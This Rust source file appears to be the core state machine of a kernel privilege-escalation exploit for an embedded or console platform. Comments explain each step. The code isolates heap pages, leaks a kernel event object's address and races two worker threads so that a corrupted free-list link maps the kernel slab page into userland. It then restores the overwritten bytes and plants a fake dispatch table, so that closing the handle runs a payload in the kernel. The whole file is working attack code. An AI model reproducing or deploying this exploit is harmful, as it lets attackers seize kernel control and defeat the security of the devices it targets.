//! the exploit state machine.
//!
//! a strict sequence of barriers: isolate the heap tail, leak a kernel
//! object address, start the racing workers, corrupt the free list inside
//! the window the oracle opens, restore what the allocator scribbled, plant
//! the dispatch table and let the kernel trigger the payload by releasing
//! the object. one shot; the first failure ends the run.

use std::fmt;
use std::sync::atomic::{AtomicBool, AtomicU32, Ordering};
use std::sync::Arc;

use log::debug;

use crate::chunk::ChunkHdr;
use crate::layout::{self, PAGE_SIZE};
use crate::race::{self, AllocateRequest};
use crate::svc::{
    failed, ArbitrationMode, Handle, MemOp, MemPerm, Platform, RawStatus, ARBITER_NO_ACCESS,
};

// knobs
const MAPPING_PAGES: u32 = 2;
const WORKER_STACK: u32 = 0x4000;
const DELAY_PRIORITY: u8 = 0x18;
const ALLOC_PRIORITY: u8 = 0x3F;
const WORKER_CORE: i8 = 1;
const SINGLE_CORE_QUOTA: u32 = 30;
const NORMAL_QUOTA: u32 = 80;
const DISPATCH_ENTRIES: u32 = 16;
const ORACLE_ATTEMPTS: u32 = 0x40000;
const COMPLETION_POLL_NS: i64 = 1_000_000;
const PATCH_POLL_NS: i64 = 1_000_000;
const PATCH_ATTEMPTS: u32 = 5_000;
const SETTLE_NS: i64 = 0x400_0000;

/// everything that can end a run. all of these are final: a failed run
/// leaves the heap in an unknown shape and the process should not retry.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ExploitError {
    /// a userland buffer could not be allocated.
    NoMemory(&'static str),
    /// the CPU time-quota policy could not be applied. without it the
    /// threads spread across cores and the interleaving means nothing.
    CpuQuota(RawStatus),
    /// the isolation allocate/free dance failed.
    Isolation(RawStatus),
    /// the kernel object whose address we leak could not be created.
    KernelObject(RawStatus),
    /// a worker thread could not be spawned.
    ThreadCreate(&'static str, RawStatus),
    /// an address never became accessible from userland. the timing
    /// assumptions do not hold on this build.
    OracleTimeout(u32),
    /// the mapping settled before the corruption write landed. distinct
    /// from resource failures: the window itself is gone, not a buffer.
    RaceLost,
    /// the raced mapping returned a terminal failure code.
    MappingFailed(RawStatus),
    /// the kernel never reported the patch after the trigger.
    TriggerTimeout,
    /// the service-broker session could not be re-established.
    SrvInit(RawStatus),
}

impl fmt::Display for ExploitError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ExploitError::NoMemory(what) => write!(f, "can't allocate {}", what),
            ExploitError::CpuQuota(code) => {
                write!(f, "can't force threads onto one core ({:#x})", *code as u32)
            }
            ExploitError::Isolation(code) => {
                write!(f, "can't isolate the target pages ({:#x})", *code as u32)
            }
            ExploitError::KernelObject(code) => {
                write!(f, "can't create the kernel object ({:#x})", *code as u32)
            }
            ExploitError::ThreadCreate(which, code) => {
                write!(f, "can't create the {} thread ({:#x})", which, *code as u32)
            }
            ExploitError::OracleTimeout(addr) => {
                write!(f, "address {:#x} never became accessible", addr)
            }
            ExploitError::RaceLost => write!(f, "race condition failed"),
            ExploitError::MappingFailed(code) => {
                write!(f, "memory mapping failed ({:#x})", *code as u32)
            }
            ExploitError::TriggerTimeout => write!(f, "kernel never reported the patch"),
            ExploitError::SrvInit(code) => {
                write!(f, "can't re-establish the service session ({:#x})", *code as u32)
            }
        }
    }
}

impl std::error::Error for ExploitError {}

/// process-wide observable state: one writer per field, read anywhere.
/// the hardware flag is set at startup, the other two by the kernel-side
/// payload; nothing resets them.
pub struct ProcessState {
    newer_hardware: AtomicBool,
    kernel_patched: AtomicBool,
    pid_backup: AtomicU32,
}

impl ProcessState {
    pub fn new() -> Arc<ProcessState> {
        Arc::new(ProcessState {
            newer_hardware: AtomicBool::new(false),
            kernel_patched: AtomicBool::new(false),
            pid_backup: AtomicU32::new(0),
        })
    }

    pub fn newer_hardware(&self) -> bool {
        self.newer_hardware.load(Ordering::Acquire)
    }

    pub(crate) fn set_newer_hardware(&self, newer: bool) {
        self.newer_hardware.store(newer, Ordering::Release);
    }

    pub fn kernel_patched(&self) -> bool {
        self.kernel_patched.load(Ordering::Acquire)
    }

    pub(crate) fn set_kernel_patched(&self) {
        self.kernel_patched.store(true, Ordering::Release);
    }

    pub fn pid_backup(&self) -> u32 {
        self.pid_backup.load(Ordering::Acquire)
    }

    pub(crate) fn set_pid_backup(&self, value: u32) {
        self.pid_backup.store(value, Ordering::Release);
    }
}

/// one page from the isolation dance. freed exactly once, either through
/// [`release`](Self::release) or on drop.
struct PageGuard<'p> {
    plat: &'p dyn Platform,
    addr: Option<u32>,
}

impl<'p> PageGuard<'p> {
    fn new(plat: &'p dyn Platform, addr: u32) -> PageGuard<'p> {
        PageGuard { plat, addr: Some(addr) }
    }

    fn release(mut self) -> RawStatus {
        let addr = self.addr.take().unwrap();
        self.plat
            .control_memory(addr, PAGE_SIZE, MemOp::Free, MemPerm::DONT_CARE)
            .1
    }
}

impl<'p> Drop for PageGuard<'p> {
    fn drop(&mut self) {
        if let Some(addr) = self.addr.take() {
            self.plat
                .control_memory(addr, PAGE_SIZE, MemOp::Free, MemPerm::DONT_CARE);
        }
    }
}

/// the dispatch table in linear memory.
struct LinearGuard<'p> {
    plat: &'p dyn Platform,
    addr: u32,
    size: u32,
}

impl<'p> Drop for LinearGuard<'p> {
    fn drop(&mut self) {
        self.plat.linear_free(self.addr, self.size);
    }
}

/// the leaked-address event handle. closing it is the trigger, so the happy
/// path closes it explicitly; the guard covers failure paths.
struct HandleGuard<'p> {
    plat: &'p dyn Platform,
    handle: Option<Handle>,
}

impl<'p> HandleGuard<'p> {
    fn new(plat: &'p dyn Platform, handle: Handle) -> HandleGuard<'p> {
        HandleGuard { plat, handle: Some(handle) }
    }

    fn close(mut self) -> RawStatus {
        self.plat.close_handle(self.handle.take().unwrap())
    }
}

impl<'p> Drop for HandleGuard<'p> {
    fn drop(&mut self) {
        if let Some(handle) = self.handle.take() {
            self.plat.close_handle(handle);
        }
    }
}

/// the raced two-page mapping. freeing while the allocate syscall is still
/// in flight would corrupt the allocator a second time, so the drop path
/// first waits for a terminal result (aborting the record if the allocate
/// worker never started), then frees only if the mapping actually landed.
struct MappingGuard<'p> {
    plat: &'p dyn Platform,
    req: Arc<AllocateRequest>,
    started: bool,
}

impl<'p> MappingGuard<'p> {
    fn new(plat: &'p dyn Platform, req: Arc<AllocateRequest>) -> MappingGuard<'p> {
        MappingGuard { plat, req, started: false }
    }

    fn started(&mut self) {
        self.started = true;
    }

    /// block until the shared record turns terminal. unbounded: once the
    /// window has been exploited there is nothing useful to do but observe
    /// the outcome.
    fn settle(&self) -> RawStatus {
        if !self.started {
            self.req.abort();
        }
        loop {
            if let Some(code) = self.req.result() {
                return code;
            }
            self.plat.sleep(COMPLETION_POLL_NS);
        }
    }
}

impl<'p> Drop for MappingGuard<'p> {
    fn drop(&mut self) {
        let code = self.settle();
        if code == 0 {
            self.plat.control_memory(
                self.req.addr(),
                self.req.size(),
                MemOp::Free,
                MemPerm::DONT_CARE,
            );
        }
    }
}

/// the whole exploit: a platform to run against and the process-wide state
/// the kernel-side payload reports into.
pub struct Exploit {
    plat: Arc<dyn Platform>,
    state: Arc<ProcessState>,
}

impl Exploit {
    pub fn new(plat: Arc<dyn Platform>, state: Arc<ProcessState>) -> Exploit {
        Exploit { plat, state }
    }

    pub fn state(&self) -> &Arc<ProcessState> {
        &self.state
    }

    /// single entry point. returns once the kernel is patched and the
    /// service session is back, or with the first failure.
    pub fn run(&self) -> Result<(), ExploitError> {
        let (code, newer) = self.plat.newer_hardware();
        if !failed(code) {
            self.state.set_newer_hardware(newer);
        } else {
            debug!("revision query returned {:#x}, assuming older", code as u32);
        }
        debug!(
            "starting on {} hardware revision",
            if self.state.newer_hardware() { "the newer" } else { "the older" }
        );
        self.install()
    }

    fn install(&self) -> Result<(), ExploitError> {
        let plat = &*self.plat;

        debug!("#1 allocating buffers");
        let target = plat.heap_end();
        let req = AllocateRequest::new(target, MAPPING_PAGES * PAGE_SIZE);

        let (table_addr, code) = plat.linear_alloc(DISPATCH_ENTRIES * 4);
        if failed(code) {
            return Err(ExploitError::NoMemory("dispatch table"));
        }
        let _table = LinearGuard { plat, addr: table_addr, size: DISPATCH_ENTRIES * 4 };
        let entry = plat.payload_addr();
        for i in 0..DISPATCH_ENTRIES {
            plat.write_u32(table_addr + i * 4, entry);
        }

        let mut backup = vec![0u8; PAGE_SIZE as usize];

        let code = plat.set_cpu_quota(SINGLE_CORE_QUOTA);
        if failed(code) {
            return Err(ExploitError::CpuQuota(code));
        }

        debug!("#2 isolating the target pages");
        // allocate two pages right above the raced range, then free the
        // lower one: the next chunk the allocator hands out is adjacent to
        // the target with nothing foreign interleaved.
        let (isolated_addr, code) = plat.control_memory(
            target + MAPPING_PAGES * PAGE_SIZE,
            PAGE_SIZE,
            MemOp::Alloc,
            MemPerm::READ | MemPerm::WRITE,
        );
        if failed(code) {
            return Err(ExploitError::Isolation(code));
        }
        let isolated = PageGuard::new(plat, isolated_addr);
        let (isolating_addr, code) = plat.control_memory(
            isolated_addr + PAGE_SIZE,
            PAGE_SIZE,
            MemOp::Alloc,
            MemPerm::READ | MemPerm::WRITE,
        );
        if failed(code) {
            return Err(ExploitError::Isolation(code));
        }
        let _isolating = PageGuard::new(plat, isolating_addr);
        let code = isolated.release();
        if failed(code) {
            return Err(ExploitError::Isolation(code));
        }

        debug!("#3 capturing a kernel object");
        // part of a fresh event object doubles as a chunk header: its
        // reference count reads as the size and its synced-thread link as
        // the forward link, which is zero on a fresh event. the completion
        // path never checks the size, but the link has to be zero so it
        // stops after our chunk.
        let (code, kobj_handle, kobj_vaddr) = plat.create_event_kaddr();
        if failed(code) {
            return Err(ExploitError::KernelObject(code));
        }
        let kobj = HandleGuard::new(plat, kobj_handle);
        let kobj_chunk = layout::slab_to_chunk_addr(kobj_vaddr);
        let kobj_off = kobj_chunk & (PAGE_SIZE - 1);
        debug!("kernel object at {:#x}, chunk link {:#x}", kobj_vaddr, kobj_chunk);

        debug!("#4 starting the race");
        let code = {
            let plat = self.plat.clone();
            let req = req.clone();
            self.plat.create_thread(
                Box::new(move || race::delay_worker(plat, req)),
                WORKER_STACK,
                DELAY_PRIORITY,
                WORKER_CORE,
            )
        };
        if failed(code) {
            return Err(ExploitError::ThreadCreate("delay", code));
        }
        let mut mapping = MappingGuard::new(plat, req.clone());
        let code = {
            let plat = self.plat.clone();
            let req = req.clone();
            self.plat.create_thread(
                Box::new(move || race::allocate_worker(plat, req)),
                WORKER_STACK,
                ALLOC_PRIORITY,
                WORKER_CORE,
            )
        };
        if failed(code) {
            return Err(ExploitError::ThreadCreate("allocate", code));
        }
        mapping.started();

        debug!("#5 waiting for the first page");
        self.wait_accessible(target, &req)?;
        // mid-syscall now: the first page is ours, the second is not yet
        // linked. aim the free-list forward link at the kernel object so the
        // in-flight mapping pulls the slab page in as the next chunk.
        ChunkHdr::overlay(target).set_next(plat, kobj_chunk);

        debug!("#6 waiting for the second page");
        let kobj_user = target + PAGE_SIZE + kobj_off;
        self.wait_accessible(kobj_user, &req)?;
        // save the legitimate kernel bytes before anything else touches them
        let backup_len = (PAGE_SIZE - kobj_off) as usize;
        plat.read_bytes(kobj_user, &mut backup[..backup_len]);
        if req.result().is_some() {
            // the mapping settled before our write landed, so nothing of the
            // kernel was remapped. the object is untouched; just back out.
            return Err(ExploitError::RaceLost);
        }

        debug!("#7 waiting for the mapping to settle");
        let code = mapping.settle();
        if failed(code) {
            return Err(ExploitError::MappingFailed(code));
        }

        debug!("#8 restoring kernel bytes, planting the dispatch table");
        // the allocator scribbled fresh chunk metadata over the object while
        // completing; the settle above is the barrier that makes this write
        // safe. put the saved bytes back, then aim the word right below the
        // leaked address (the object's dispatch-table pointer) at our table.
        plat.write_bytes(kobj_user, &backup[..backup_len]);
        plat.write_u32(kobj_user - 4, table_addr);

        debug!("#9 releasing the mapping and the object");
        drop(mapping);
        let code = kobj.close();
        if failed(code) {
            debug!("close returned {:#x}", code as u32);
        }

        debug!("#10 waiting for the kernel-side patch");
        // the session goes down first so the broker renegotiates it against
        // the patched kernel.
        plat.srv_exit();
        let mut waited = 0;
        while !self.state.kernel_patched() {
            if waited == PATCH_ATTEMPTS {
                return Err(ExploitError::TriggerTimeout);
            }
            waited += 1;
            plat.sleep(PATCH_POLL_NS);
        }
        let code = plat.srv_init();
        if failed(code) {
            return Err(ExploitError::SrvInit(code));
        }
        plat.sleep(SETTLE_NS);
        let code = plat.set_cpu_quota(NORMAL_QUOTA);
        if failed(code) {
            debug!("quota restore returned {:#x}", code as u32);
        }

        debug!("#11 kernel patched");
        Ok(())
        // remaining guards release the isolating page and the table here
    }

    /// spin on the arbiter until `addr` stops faulting from userland. a
    /// terminal failure on the shared record ends the wait early: the
    /// mapping died and the page is never coming.
    fn wait_accessible(&self, addr: u32, req: &AllocateRequest) -> Result<(), ExploitError> {
        for _ in 0..ORACLE_ATTEMPTS {
            let code = self.plat.arbitrate_address(
                addr,
                ArbitrationMode::WaitIfLessThanTimeout,
                0,
                0,
            );
            if code != ARBITER_NO_ACCESS {
                return Ok(());
            }
            if let Some(code) = req.result() {
                if failed(code) {
                    return Err(ExploitError::MappingFailed(code));
                }
            }
        }
        Err(ExploitError::OracleTimeout(addr))
    }
}
